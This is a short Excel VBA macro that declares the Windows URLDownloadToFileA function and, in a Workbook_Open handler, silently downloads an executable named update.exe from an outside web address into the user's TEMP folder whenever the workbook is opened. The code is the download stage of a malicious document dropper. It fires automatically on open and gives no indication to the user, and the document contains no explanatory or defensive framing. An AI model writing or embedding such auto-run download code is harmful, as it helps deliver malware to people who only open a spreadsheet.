Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal pCaller As Long, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As Long) As Long
Private Sub Workbook_Open()
    URLDownloadToFileA 0, "http://www.example.com/update.exe", Environ("TEMP") & "\update.exe", 0, 0
End Sub
